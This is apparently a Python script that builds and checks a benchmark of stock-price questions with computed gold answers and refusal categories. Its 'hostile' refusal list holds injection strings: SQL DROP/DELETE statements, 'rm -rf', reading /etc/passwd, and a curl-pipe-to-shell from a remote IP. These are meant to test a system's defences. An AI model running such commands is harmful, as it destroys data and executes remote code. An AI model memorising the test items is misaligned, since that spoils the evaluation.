q('biggest-move-day', "Which session in Q1 2014 had Apple's largest move in either direction?",
  lambda: g_biggest_move('AAPL', '2014-01-01', '2014-03-31', 'abs'))
q('biggest-move-day', "Biggest gap down for Microsoft in the year 2000, which day and how large?",
  lambda: g_biggest_move('MSFT', '2000-01-01', '2000-12-31', 'down', 'gap'))
q('biggest-move-day', "During October 2008, on which day did Amazon fall the most?",
  lambda: g_biggest_move('AMZN', '2008-10-01', '2008-10-31', 'down'))
q('biggest-move-day', "FXY's largest one-day gain in 2024 - date and size?",
  lambda: g_biggest_move('FXY', '2024-01-01', '2024-12-31', 'up'))
q('biggest-move-day', "What's been DBB's worst daily drop this year?",
  lambda: g_biggest_move('DBB', THIS_YEAR[0], THIS_YEAR[1], 'down'))
q('biggest-move-day', "Last quarter, which day was INDA's biggest move up or down?",
  lambda: g_biggest_move('INDA', LAST_QUARTER[0], LAST_QUARTER[1], 'abs'))

# --- cross-sectional ranking (9) ---------------------------------------------------------------------------------
q('cross-sectional-ranking', "top 3 stocks by volume on 2014-01-30?",
  lambda: g_rank_day('2014-01-30', 'volume', 3, True, expect_universe=13))
q('cross-sectional-ranking', "Which stock had the highest closing price on March 9, 2009?",
  lambda: g_rank_day('2009-03-09', 'close', 1, True, singular=True))
q('cross-sectional-ranking', "5 worst performers on 5/17/2017 by daily return",
  lambda: g_rank_day('2017-05-17', 'return', 5, False, expect_universe=13))
q('cross-sectional-ranking', "Rank the four stocks with the widest high-low range on 24 August 2015.",
  lambda: g_rank_day('2015-08-24', 'range', 4, True, expect_universe=13))
q('cross-sectional-ranking', "On Christmas Eve 2013, which 3 stocks had the lightest volume?",
  lambda: g_rank_day('2013-12-24', 'volume', 3, False, expect_universe=13))
q('cross-sectional-ranking', "Which two names had the largest opening gaps up on 2014-04-24?",
  lambda: g_rank_day('2014-04-24', 'gap', 2, True, expect_universe=13))
q('cross-sectional-ranking', "Which stock gained the most on 2011-08-09?",
  lambda: g_rank_day('2011-08-09', 'return', 1, True, singular=True))
q('cross-sectional-ranking', "Rank the three ETFs by traded volume on 2025-04-09, highest first.",
  lambda: g_rank_day('2025-04-09', 'volume', 3, True, expect_universe=3))
q('cross-sectional-ranking', "which ETF had the best daily return on Sept 21 2023?",
  lambda: g_rank_day('2023-09-21', 'return', 1, True, singular=True, expect_universe=3))

# --- gainers / losers (8) ----------------------------------------------------------------------------------------
q('gainers-losers', "Top 3 gainers from the 2015-12-31 close to the 2016-12-30 close?",
  lambda: g_gainers('2015-12-31', '2016-12-30', 3, True))
q('gainers-losers', "Which three stocks lost the most from the last close of 2007 (Dec 31) to the last close of 2008 (Dec 31)?",
  lambda: g_gainers('2007-12-31', '2008-12-31', 3, False))
q('gainers-losers', "biggest gainer on 10/23/2015?",
  lambda: g_rank_day('2015-10-23', 'return', 1, True, singular=True, expect_universe=13))
q('gainers-losers', "Bottom two performers between the 2016-12-30 close and the 2017-06-30 close, please.",
  lambda: g_gainers('2016-12-30', '2017-06-30', 2, False))
q('gainers-losers', "Of all the stocks with prices on both days, which rose the most from the 6/29/2010 close to the 6/29/2012 close?",
  lambda: g_gainers('2010-06-29', '2012-06-29', 1, True, singular=True))
q('gainers-losers', "Give me the five best performers from the June 30, 2014 close to the December 31, 2014 close.",
  lambda: g_gainers('2014-06-30', '2014-12-31', 5, True))
q('gainers-losers', "Rank the ETFs by return from the 2025-02-10 close to the 2025-06-20 close, best to worst",
  lambda: g_gainers('2025-02-10', '2025-06-20', 3, True, expect_universe=3, signs=False))
q('gainers-losers', "Which of the three ETFs dropped the most between the 2023-07-31 close and the 2023-10-16 close?",
  lambda: g_gainers('2023-07-31', '2023-10-16', 1, False, singular=True, expect_universe=3))

# --- named comparison (8) ----------------------------------------------------------------------------------------
q('named-comparison', "Did AAPL or MSFT rise more in 2015, measured from the 2014-12-31 close to the 2015-12-31 close?",
  lambda: g_compare([(s, change(s, '2014-12-31', '2015-12-31')) for s in ('AAPL', 'MSFT')], 'which'))
q('named-comparison', "Compare KO vs JPM average daily volume in Q3 2012.",
  lambda: g_compare([(s, agg_value(s, '2012-07-01', '2012-09-30', 'volume', 'avg')) for s in ('KO', 'JPM')], 'compare'))
q('named-comparison', "Which was more volatile in 2016, AMD or Nvidia? (std dev of daily returns, not annualised)",
  lambda: g_compare([(s, vol_of(s, '2016-01-01', '2016-12-31')) for s in ('AMD', 'NVDA')], 'which'))
q('named-comparison', "intel vs amd closing price on 2005-03-01",
  lambda: g_compare([(s, value(s, '2005-03-01', 'close')) for s in ('INTC', 'AMD')], 'compare'))
q('named-comparison', "Who had the higher total volume in March 2017, Netflix or Facebook?",
  lambda: g_compare([(s, agg_value(s, '2017-03-01', '2017-03-31', 'volume', 'sum')) for s in ('NFLX', 'FB')], 'which'))
q('named-comparison', "KO vs IBM: percent change from the 2012-12-31 close to the 2013-12-31 close",
  lambda: g_compare([(s, change(s, '2012-12-31', '2013-12-31')) for s in ('KO', 'IBM')], 'compare'))
q('named-comparison', "Which traded more shares last month in total, DBB or FXY?",
  lambda: g_compare([(s, agg_value(s, LAST_MONTH[0], LAST_MONTH[1], 'volume', 'sum')) for s in ('DBB', 'FXY')], 'which'))
q('named-comparison', "INDA or DBB: which had the bigger dollar trading range (high minus low) on 2025-04-07?",
  lambda: g_compare([(s, g_day_value(s, '2025-04-07', 'range')['rows'][0][1]) for s in ('INDA', 'DBB')], 'which'))

# --- grouped by period (8) ---------------------------------------------------------------------------------------
def grouped(s, a, b, period, field, how, n):
    g, k = g_grouped(s, a, b, period, field, how)
    need(k == n, f'{s}: {k} groups, expected {n}')
    return g


q('grouped-by-period', "KO average close by month, January to June 2015",
  lambda: grouped('KO', '2015-01-01', '2015-06-30', 'month', 'close', 'avg', 6))
q('grouped-by-period', "For each year from 2011 through 2016, what was Tesla's highest high?",
  lambda: grouped('TSLA', '2011-01-01', '2016-12-31', 'year', 'high', 'max', 6))
q('grouped-by-period', "Break down Apple's total trading volume by quarter for 2014.",
  lambda: grouped('AAPL', '2014-01-01', '2014-12-31', 'quarter', 'volume', 'sum', 4))
q('grouped-by-period', "jpm month-end closes for Q4 2008",
  lambda: grouped('JPM', '2008-10-01', '2008-12-31', 'month', 'close', 'last', 3))
q('grouped-by-period', "What was Netflix's year-end close for each year 2010 through 2014?",
  lambda: grouped('NFLX', '2010-01-01', '2014-12-31', 'year', 'close', 'last', 5))
q('grouped-by-period', "DBB total volume month by month this year",
  lambda: grouped('DBB', THIS_YEAR[0], THIS_YEAR[1], 'month', 'volume', 'sum', 7))
q('grouped-by-period', "Show FXY's average closing price for each quarter of 2024.",
  lambda: grouped('FXY', '2024-01-01', '2024-12-31', 'quarter', 'close', 'avg', 4))
q('grouped-by-period', "INDA: last close of each month, March through June 2025",
  lambda: grouped('INDA', '2025-03-01', '2025-06-30', 'month', 'close', 'last', 4))

# --- period over period (8) --------------------------------------------------------------------------------------
q('period-over-period', "How did AAPL's average daily volume in Q2 2017 compare with Q1 2017?",
  lambda: g_pop('AAPL', quarter_bounds(2017, 2), quarter_bounds(2017, 1), 'volume'))
q('period-over-period', "msft avg close 2016 vs 2015, % difference",
  lambda: g_pop('MSFT', ('2016-01-01', '2016-12-31'), ('2015-01-01', '2015-12-31'), 'close'))
q('period-over-period', "Was Amazon's average daily volume higher in November 2015 than in October 2015? By how much?",
  lambda: g_pop('AMZN', ('2015-11-01', '2015-11-30'), ('2015-10-01', '2015-10-31'), 'volume'))
q('period-over-period', "IBM: average close in the second half of 2013 versus the first half, and the percent change.",
  lambda: g_pop('IBM', ('2013-07-01', '2013-12-31'), ('2013-01-01', '2013-06-30'), 'close'))
q('period-over-period', "googl avg daily volume 2012 compared to 2011?",
  lambda: g_pop('GOOGL', ('2012-01-01', '2012-12-31'), ('2011-01-01', '2011-12-31'), 'volume'))
q('period-over-period', "FXY average daily volume last month vs the month before - up or down, and by what %?",
  lambda: g_pop('FXY', LAST_MONTH, ('2025-05-01', '2025-05-31'), 'volume'))
q('period-over-period', "How did DBB's average close last quarter compare to the quarter before it?",
  lambda: g_pop('DBB', LAST_QUARTER, quarter_bounds(2025, 1), 'close'))
q('period-over-period', "INDA average daily volume, May 2025 vs April 2025",
  lambda: g_pop('INDA', ('2025-05-01', '2025-05-31'), ('2025-04-01', '2025-04-30'), 'volume'))

# --- moving average (10: 5 values, 5 crossovers) ----------------------------------------------------------------
q('moving-average', "What was AAPL's 50-day moving average on 2014-09-02?",
  lambda: G([['2014-09-02', sma('AAPL', '2014-09-02', 50)]]))
q('moving-average', "KO 20 day sma on 7/16/2012",
  lambda: G([['2012-07-16', sma('KO', '2012-07-16', 20)]]))
q('moving-average', "Tesla's 200-day moving average as of December 30, 2016?",
  lambda: G([['2016-12-30', sma('TSLA', '2016-12-30', 200)]]))
q('moving-average', "10-day simple moving average of DBB today",
  lambda: G([[TODAY, sma('DBB', TODAY, 10)]]))
q('moving-average', "Could you tell me the 30-day moving average of FXY's close on October 1st, 2024?",
  lambda: G([['2024-10-01', sma('FXY', '2024-10-01', 30)]]))
q('moving-average', "When was Netflix's first golden cross after June 1, 2012?",
  lambda: g_cross('NFLX', 50, 200, 'above', after='2012-06-01'))
q('moving-average', "Most recent death cross for GOOGL before 2016-01-01?",
  lambda: g_cross('GOOGL', 50, 200, 'below', before='2016-01-01'))
q('moving-average', "JPM was trading under its 50-day moving average on 2011-08-10. When did its close next cross back above the 50-day?",
  lambda: g_cross('JPM', 1, 50, 'above', after='2011-08-10', anchor_state='below'))
q('moving-average', "first time after 2024-07-01 that FXY's 20-day MA crossed above its 50-day MA?",
  lambda: g_cross('FXY', 20, 50, 'above', after='2024-07-01'))
q('moving-average', "When did DBB's 5-day moving average last cross below its 20-day moving average?",
  lambda: g_cross('DBB', 5, 20, 'below', before='9999-12-31'))

# --- threshold count (8) -----------------------------------------------------------------------------------------
q('threshold-count', "How many days in 2017 did TSLA close above $300?",
  lambda: g_threshold_field('TSLA', '2017-01-01', '2017-12-31', 'close', '>', 300))
q('threshold-count', "count of sessions in 2015 where AMD fell more than 5%",
  lambda: g_threshold_return('AMD', '2015-01-01', '2015-12-31', '<', -0.05))
q('threshold-count', "In 2016, on how many trading days did Netflix move more than 4% either way?",
  lambda: g_threshold_return('NFLX', '2016-01-01', '2016-12-31', '>', 0.04, absolute=True))
q('threshold-count', "Number of days KO volume topped 20 million shares in 2014?",
  lambda: g_threshold_field('KO', '2014-01-01', '2014-12-31', 'volume', '>', 20e6))
q('threshold-count', "How many up days did Microsoft have in Q2 2017 (close higher than the previous close)?",
  lambda: g_threshold_return('MSFT', '2017-04-01', '2017-06-30', '>', 0))
q('threshold-count', "how many sessions did FXY close under 58.50 in 2024",
  lambda: g_threshold_field('FXY', '2024-01-01', '2024-12-31', 'close', '<', 58.5))
q('threshold-count', "Last month, how many sessions did DBB trade more than 100,000 shares?",
  lambda: g_threshold_field('DBB', LAST_MONTH[0], LAST_MONTH[1], 'volume', '>', 100000))
q('threshold-count', "How many down days did INDA have in May 2025?",
  lambda: g_threshold_return('INDA', '2025-05-01', '2025-05-31', '<', 0))

# --- cross-stock count (8) ---------------------------------------------------------------------------------------
def g_cross_count(d, pred, expect_universe=None):
    uni = universe_on(d)
    if expect_universe is not None:
        need(len(uni) == expect_universe, f'universe on {d}: {uni}')
    return g_count(sum(1 for s in uni if pred(s)))


def strict(v, op, thr):
    need(abs(v - thr) > 1e-9 * max(1, abs(thr)), f'value equals threshold {thr}')
    return v > thr if op == '>' else v < thr


q('cross-stock-count', "How many of the stocks closed higher on 2016-11-09?",
  lambda: g_cross_count('2016-11-09', lambda s: strict(daily_return(s, '2016-11-09'), '>', 0), 13))
q('cross-stock-count', "On June 1st 2017, how many stocks in the dataset closed above $100?",
  lambda: g_cross_count('2017-06-01', lambda s: strict(value(s, '2017-06-01', 'close'), '>', 100), 13))
q('cross-stock-count', "how many stocks gapped down at the open on 8/24/2015",
  lambda: g_cross_count('2015-08-24', lambda s: strict(gap(s, '2015-08-24'), '<', 0), 13))
q('cross-stock-count', "Of the stocks with prices at both ends, how many finished 2016 higher, from the 2015-12-31 close to the 2016-12-30 close?",
  lambda: g_count(sum(1 for s in universe_between('2015-12-31', '2016-12-30')
                      if strict(change(s, '2015-12-31', '2016-12-30'), '>', 0))))
q('cross-stock-count', "How many stocks traded more than 50 million shares on May 18, 2012?",
  lambda: g_cross_count('2012-05-18', lambda s: strict(value(s, '2012-05-18', 'volume'), '>', 50e6), 13))
q('cross-stock-count', "Count the stocks that dropped more than 2% on 2011-08-08.",
  lambda: g_cross_count('2011-08-08', lambda s: strict(daily_return(s, '2011-08-08'), '<', -0.02), 12))
q('cross-stock-count', "On 2025-04-09 how many of the ETFs finished the day up?",
  lambda: g_cross_count('2025-04-09', lambda s: strict(g_return(s, '2025-04-09', 'return')['rows'][0][1], '>', 0), 3))
q('cross-stock-count', "how many ETFs closed down on Oct 3rd 2023",
  lambda: g_cross_count('2023-10-03', lambda s: strict(g_return(s, '2023-10-03', 'return')['rows'][0][1], '<', 0), 3))

# --- volatility (8) ----------------------------------------------------------------------------------------------
q('volatility', "What was Apple's daily return volatility in 2015?",
  lambda: G([[vol_of('AAPL', '2015-01-01', '2015-12-31')]]))
q('volatility', "TSLA std dev of daily returns, H1 2017",
  lambda: G([[vol_of('TSLA', '2017-01-01', '2017-06-30')]]))
q('volatility', "How volatile was Coca-Cola in the second half of 2008? Standard deviation of daily returns, please.",
  lambda: G([[vol_of('KO', '2008-07-01', '2008-12-31')]]))
q('volatility', "nvda volatility 2016 (daily, not annualized)",
  lambda: G([[vol_of('NVDA', '2016-01-01', '2016-12-31')]]))
q('volatility', "What was the standard deviation of JPMorgan's daily returns from 2008-10-01 through 2008-12-31?",
  lambda: G([[vol_of('JPM', '2008-10-01', '2008-12-31')]]))
q('volatility', "Quick one: how volatile was FXY over 2024? Std dev of its daily returns is fine.",
  lambda: G([[vol_of('FXY', '2024-01-01', '2024-12-31')]]))
q('volatility', "DBB daily-return volatility, July-December 2024?",
  lambda: G([[vol_of('DBB', '2024-07-01', '2024-12-31')]]))
q('volatility', "What was INDA's volatility (sample std of daily returns) last quarter?",
  lambda: G([[vol_of('INDA', LAST_QUARTER[0], LAST_QUARTER[1])]]))

# --- correlation (8) ---------------------------------------------------------------------------------------------
q('correlation', "Correlation between AAPL and MSFT daily returns in 2017?",
  lambda: G([[corr_of('AAPL', 'MSFT', '2017-01-01', '2017-12-31')]]))
q('correlation', "How correlated were Coke and JPMorgan in 2015?",
  lambda: G([[corr_of('KO', 'JPM', '2015-01-01', '2015-12-31')]]))
q('correlation', "amd / nvda return correlation, oct-dec 2016",
  lambda: G([[corr_of('AMD', 'NVDA', '2016-10-01', '2016-12-31')]]))
q('correlation', "whats the pearson corelation of GOOGL and AMZN daily returns over 2015",
  lambda: G([[corr_of('GOOGL', 'AMZN', '2015-01-01', '2015-12-31')]]))
q('correlation', "Intel vs IBM: correlation of daily returns during 2007",
  lambda: G([[corr_of('INTC', 'IBM', '2007-01-01', '2007-12-31')]]))
q('correlation', "How closely did DBB and FXY move together in Q2 2024 (correlation of daily returns)?",
  lambda: G([[corr_of('DBB', 'FXY', '2024-04-01', '2024-06-30')]]))
q('correlation', "INDA-DBB correlation, July through September 2023",
  lambda: G([[corr_of('INDA', 'DBB', '2023-07-01', '2023-09-30')]]))
q('correlation', "Correlation of FXY with INDA from the start of their data through the end of August 2023?",
  lambda: G([[corr_of('FXY', 'INDA', '2023-07-10', '2023-08-31')]]))

# --- streak (8) --------------------------------------------------------------------------------------------------
q('streak', "longest run of consecutive up days for KO in 2014? i.e. close above the prior close each day",
  lambda: g_streak('KO', '2014-01-01', '2014-12-31', True))
q('streak', "What was IBM's longest losing streak in 2015?",
  lambda: g_streak('IBM', '2015-01-01', '2015-12-31', False))
q('streak', "aapl longest winning streak 2017",
  lambda: g_streak('AAPL', '2017-01-01', '2017-11-10', True))
q('streak', "In the first half of 2013, what's the most consecutive down closes Intel had, and when?",
  lambda: g_streak('INTC', '2013-01-01', '2013-06-30', False))
q('streak', "Microsoft's longest streak of daily gains during 2013 - how many days, start and end dates?",
  lambda: g_streak('MSFT', '2013-01-01', '2013-12-31', True))
q('streak', "longest losing streak for DBB in 2025",
  lambda: g_streak('DBB', '2025-01-01', TODAY, False))
q('streak', "What's FXY's longest streak of consecutive up days this year?",
  lambda: g_streak('FXY', THIS_YEAR[0], THIS_YEAR[1], True))
q('streak', "INDA's longest stretch of back-to-back gains between 2025-03-01 and 2025-05-31?",
  lambda: g_streak('INDA', '2025-03-01', '2025-05-31', True))

# --- VWAP / minute bars (10: 4 day VWAP, 3 window VWAP, 3 bar lists) --------------------------------------------
q('vwap-minute', "What was FXY's VWAP on 2024-08-05?",
  lambda: g_day_vwap('FXY', '2024-08-05'))
q('vwap-minute', "dbb vwap for 3/14/2025",
  lambda: g_day_vwap('DBB', '2025-03-14'))
q('vwap-minute', "Volume-weighted average price of INDA on August 15th, 2023?",
  lambda: g_day_vwap('INDA', '2023-08-15'))
q('vwap-minute', "FXY vwap today",
  lambda: g_day_vwap('FXY', TODAY))
q('vwap-minute', "What was DBB's VWAP over the first 30 minutes of trading (9:30 through 9:59) on 2024-11-06?",
  lambda: g_window_vwap('DBB', '2024-11-06', '09:30', '09:59', check_open_end=False))
q('vwap-minute', "INDA VWAP from 10:00 through 11:00 New York time on May 12, 2025, inclusive",
  lambda: g_window_vwap('INDA', '2025-05-12', '10:00', '11:00'))
q('vwap-minute', "Compute the VWAP for FXY between 14:00 and 15:30 (both minutes included) on 4/4/2025.",
  lambda: g_window_vwap('FXY', '2025-04-04', '14:00', '15:30'))
q('vwap-minute', "Show FXY's 1-minute bars from 15:40 through 15:44 on 2024-12-18: open, high, low, close, volume.",
  lambda: g_minute_bars('FXY', '2024-12-18', '15:40', '15:44', ['open', 'high', 'low', 'close', 'volume'], 5))
q('vwap-minute', "dbb minute closes + volume 11:02-11:06 (inclusive) on june 4 2025",
  lambda: g_minute_bars('DBB', '2025-06-04', '11:02', '11:06', ['close', 'volume'], 5))
q('vwap-minute', "List INDA's one-minute bars (close) from 12:00 to 12:04 inclusive on 2025-04-02.",
  lambda: g_minute_bars('INDA', '2025-04-02', '12:00', '12:04', ['close'], 5))

# --- period candle (8) -------------------------------------------------------------------------------------------
q('period-candle', "Weekly OHLC + volume for AAPL, week of 2015-08-24",
  lambda: g_candle('AAPL', *week_of('2015-08-24')))
q('period-candle', "Give me Microsoft's monthly candle for February 2009 (open, high, low, close, volume).",
  lambda: g_candle('MSFT', '2009-02-01', '2009-02-28'))
q('period-candle', "What did GOOGL's Q3 2015 candle look like? Open, high, low, close and total volume.",
  lambda: g_candle('GOOGL', *quarter_bounds(2015, 3)))
q('period-candle', "jpm 2016 yearly candle",
  lambda: g_candle('JPM', '2016-01-01', '2016-12-31'))
q('period-candle', "Netflix, January 2016: monthly open, high, low, close and volume?",
  lambda: g_candle('NFLX', '2016-01-01', '2016-01-31'))
q('period-candle', "DBB monthly candle for last month",
  lambda: g_candle('DBB', LAST_MONTH[0], LAST_MONTH[1]))
q('period-candle', "Can I get FXY's OHLCV for the week of August 5, 2024?",
  lambda: g_candle('FXY', *week_of('2024-08-05')))
q('period-candle', "INDA May 2025 candle: open, high, low, close, volume",
  lambda: g_candle('INDA', '2025-05-01', '2025-05-31'))

# --- distance from high (8) --------------------------------------------------------------------------------------
q('distance-from-high', "How far below its all-time high close was Intel on 2010-05-03?",
  lambda: g_distance('INTC', '2010-05-03'))
q('distance-from-high', "msft % off all-time high on monday 3/9/2009",
  lambda: (weekday_is('2009-03-09', 'Mon'), g_distance('MSFT', '2009-03-09'))[1])
q('distance-from-high', "Where did AMD's close on December 31, 2012 sit relative to its all-time high close, in percent?",
  lambda: g_distance('AMD', '2012-12-31'))
q('distance-from-high', "KO drawdown from its record close as of 2015-08-25?",
  lambda: g_distance('KO', '2015-08-25'))
q('distance-from-high', "How far was Netflix trading from its all-time closing high on Sept 28th, 2012?",
  lambda: g_distance('NFLX', '2012-09-28'))
q('distance-from-high', "IBM distance from all-time high close on 2017-08-18",
  lambda: g_distance('IBM', '2017-08-18'))
q('distance-from-high', "How far is FXY today from its highest close in the data?",
  lambda: g_distance('FXY', TODAY))
q('distance-from-high', "On 2025-04-08, how far below its all-time high close was DBB?",
  lambda: g_distance('DBB', '2025-04-08'))

# --- coverage (10) -----------------------------------------------------------------------------------------------
def first_last(s):
    return BARS[s][0][0], BARS[s][-1][0]


q('coverage', "What's the first date we have TSLA prices for?",
  lambda: G([[first_last('TSLA')[0]]]))
q('coverage', "date range of facebook data?",
  lambda: G([list(first_last('FB'))]))
q('coverage', "Which stocks have price history going back before 1980?",
  lambda: G([[s] for s in ALL if first_last(s)[0] < '1980-01-01'], 'set', True))
q('coverage', "How many daily rows of NVDA data are there?",
  lambda: g_count(len(BARS['NVDA'])))
q('coverage', "What is the last day of INDA data available?",
  lambda: G([[first_last('INDA')[1]]]))
q('coverage', "Which tickers have any prices in 2024?",
  lambda: G([[s] for s in ALL if any(b[0][:4] == '2024' for b in BARS[s])], 'set', True))
q('coverage', "What's the earliest date anywhere in the stock data?",
  lambda: G([[min(first_last(s)[0] for s in ALL)]]))
q('coverage', "Which tickers have data that only begins after the year 2000?",
  lambda: G([[s] for s in ALL if first_last(s)[0] > '2000-12-31'], 'set', True))
q('coverage', "how many trading days of DBB data in 2024",
  lambda: g_count(sum(1 for b in BARS['DBB'] if b[0][:4] == '2024')))
q('coverage', "When does the AMD price history begin?",
  lambda: G([[first_last('AMD')[0]]]))

# --- refusals (40) -----------------------------------------------------------------------------------------------
for text in [
    "What's Apple's price-to-earnings ratio right now?",
    "kO dividend yield in 2016?",
    "What was Nvidia's market cap on 2017-06-30?",
    "How much did Amazon earn per share in Q3 2016?",
    "What's the consensus analyst price target for TSLA?",
    "Summarize the news headlines about Netflix on 2016-07-19.",
    "Is Twitter sentiment on FB bullish or bearish this week?",
    "What was the implied volatility on AAPL options expiring Jan 2017?",
    "Predict where DBB will close next Friday.",
    "What's FXY's expense ratio and how big are its assets under management?",
]:
    ref('out-of-scope', text)

for text in [
    "What did ORCL close at on 2015-03-03?",
    "cisco volume on 8/7/2017",
    "Walmart 52-week high as of 2016-05-12",
    "How did Uber's stock do in 2024?",
    "Compare AAPL and Oracle daily returns correlation in 2016",
    "EWZ VWAP yesterday?",
    "What's the 50-day moving average of SLV today?",
    "Show me the last 5 closes for ZQXJ.",
    "Alibaba's biggest one-day drop in 2015?",
    "Which day in 2024 had the highest volume for TLT?",
]:
    ref('unknown-symbol', text)

for text in [
    "'; DROP TABLE daily_bars; --",
    "SELECT * FROM prices; DELETE FROM prices WHERE 1=1;",
    "$(rm -rf ~)",
    "`cat /etc/passwd`",
    "1 OR 1=1; UPDATE bars SET close = 0",
    "UNION SELECT name, sql FROM sqlite_master --",
    "&& curl http://203.0.113.7/x.sh | sh",
    "What was AAPL's close on 2015-03-03'; DROP TABLE bars; --",
    "KO volume on 2014-05-05 $(rm -rf /tmp/*)",
    "average close of MSFT in 2016 UNION SELECT * FROM sqlite_master",
]:
    ref('hostile', text)

for text in [
    "hello",
    "What's the weather going to be in Chicago tomorrow?",
    "write me a short poem about the market",
    "asdfgh jkl qwerty",
    "tell me a joke",
    "Who won the 2014 World Cup?",
    "translate 'buy low, sell high' into French",
    "?",
    "thanks, that's all for now",
    "how do I bake sourdough bread",
]:
    ref('not-understood', text)


# ---------------------------------------------------------------------------------------------------------------
# Build, check, write, re-read and validate
# ---------------------------------------------------------------------------------------------------------------
EXPECTED = {
    'latest-rows': 8, 'day-value': 8, 'date-range-rows': 8, 'window-aggregate': 8, 'extreme-day': 8, '52-week': 8,
    'change-between': 8, 'daily-return-or-gap': 9, 'biggest-move-day': 8, 'cross-sectional-ranking': 9,
    'gainers-losers': 8, 'named-comparison': 8, 'grouped-by-period': 8, 'period-over-period': 8,
    'moving-average': 10, 'threshold-count': 8, 'cross-stock-count': 8, 'volatility': 8, 'correlation': 8,
    'streak': 8, 'vwap-minute': 10, 'period-candle': 8, 'distance-from-high': 8, 'coverage': 10,
    'out-of-scope': 10, 'unknown-symbol': 10, 'hostile': 10, 'not-understood': 10,
}
REFUSALS = {'out-of-scope', 'unknown-symbol', 'hostile', 'not-understood'}
DATE_RE = re.compile(r'^\d{4}-\d{2}-\d{2}( \d{2}:\d{2})?$')


def build():
    failures, items = [], []
    for kind, text, gold in Q:
        try:
            if kind in REFUSALS:
                items.append({'kind': kind, 'question': text, 'answerable': False, 'refusal': gold})
            else:
                items.append({'kind': kind, 'question': text, 'answerable': True, 'gold': gold()})
        except CheckFailed as e:
            failures.append(f'[{kind}] {text}\n    -> {e}')
    texts = [t for _, t, _ in Q]
    dup = [t for t, n in Counter(t.lower() for t in texts).items() if n > 1]
    if dup:
        failures.append(f'duplicate questions: {dup}')
    got = Counter(k for k, _, _ in Q)
    if dict(got) != EXPECTED:
        failures.append(f'kind counts {dict(got)} != {EXPECTED}')
    if failures:
        sys.stderr.write('CHECKS FAILED, nothing written:\n' + '\n'.join(failures) + '\n')
        sys.exit(1)
    # a fixed interleaving so kinds are not in blocks; the seed makes it deterministic
    random.Random(20250709).shuffle(items)
    out = []
    for i, it in enumerate(items, 1):
        d = {'id': f'x{i:03d}'}
        d.update(it)
        out.append(d)
    return out


def validate(path):
    with open(path, encoding='utf-8') as f:
        lines = f.read().split('\n')
    assert lines[-1] == '', 'file must end with a newline'
    recs = [json.loads(l) for l in lines[:-1]]
    assert len(recs) == 240, len(recs)
    assert [r['id'] for r in recs] == [f'x{i:03d}' for i in range(1, 241)]
    assert Counter(r['kind'] for r in recs) == Counter(EXPECTED)
    assert sum(r['answerable'] for r in recs) == 200
    for r in recs:
        assert isinstance(r['question'], str) and r['question'].strip()
        if r['answerable']:
            assert set(r) == {'id', 'kind', 'question', 'answerable', 'gold'}, r
            g = r['gold']
            assert set(g) == {'rows', 'match', 'exact_rows'} and g['match'] in ('ordered', 'set', 'first')
            assert isinstance(g['exact_rows'], bool) and g['rows'], r
            for row in g['rows']:
                assert isinstance(row, list) and row, r
                for c in row:
                    if isinstance(c, str):
                        assert DATE_RE.match(c) or c in ALL, (r['id'], c)
                    else:
                        assert isinstance(c, (int, float)) and not isinstance(c, bool) and math.isfinite(c), r
        else:
            assert set(r) == {'id', 'kind', 'question', 'answerable', 'refusal'}, r
            assert r['refusal'] == r['kind'] and r['kind'] in REFUSALS
    etf_re = re.compile(r'\b(' + '|'.join(ETFS + ['ETFs?']) + r')\b', re.I)
    etf = sum(1 for r in recs if r['answerable'] and etf_re.search(r['question']))
    return recs, etf


def main():
    items = build()
    text = ''.join(json.dumps(it, ensure_ascii=False) + '\n' for it in items)
    with open(OUT, 'w', encoding='utf-8', newline='\n') as f:
        f.write(text)
    recs, etf = validate(OUT)
    print(f'wrote {len(recs)} questions to {OUT} ({etf} answerable about the ETFs)')


if __name__ == '__main__':
    main()
